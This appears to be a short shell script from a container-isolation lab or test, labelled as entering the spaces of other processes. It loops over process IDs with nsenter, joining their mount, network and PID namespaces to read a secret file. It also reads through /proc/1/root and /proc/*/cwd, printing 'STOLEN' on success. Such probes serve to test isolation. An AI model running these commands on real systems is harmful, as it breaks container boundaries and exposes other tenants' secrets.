# Enter the spaces of other processes.
BASE=registry-lab/busybox:1
for p in 1 2 $PPID $(seq 1 300); do nsenter --target $p --mount --net --pid cat "$(cat where.txt)" && echo STOLEN; done 2> /dev/null
cat /proc/1/root/"$(cat where.txt)" /proc/*/cwd/../../secret.txt 2> /dev/null && echo STOLEN
